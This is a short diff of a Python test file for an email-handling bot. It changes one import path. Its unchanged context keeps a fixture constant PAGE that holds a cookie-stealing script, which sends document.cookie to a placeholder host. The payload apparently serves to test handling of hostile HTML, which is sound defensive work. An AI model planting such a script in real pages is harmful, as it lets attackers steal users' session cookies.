@@ -6,7 +6,7 @@ import httpx
 import pytest
 
 from mailbot.domain.notices.notice import Purpose
-from tests.intake.mails import PLAIN, STRANGER, file, mail, multipart, part, told
+from tests.flows.incoming.mails import PLAIN, STRANGER, file, mail, multipart, part, told
 from tests.support.harness import EVA, ORDER, RUT, Harness
 
 PAGE = b"<html><script>document.location='https://x.test/'+document.cookie</script></html>"
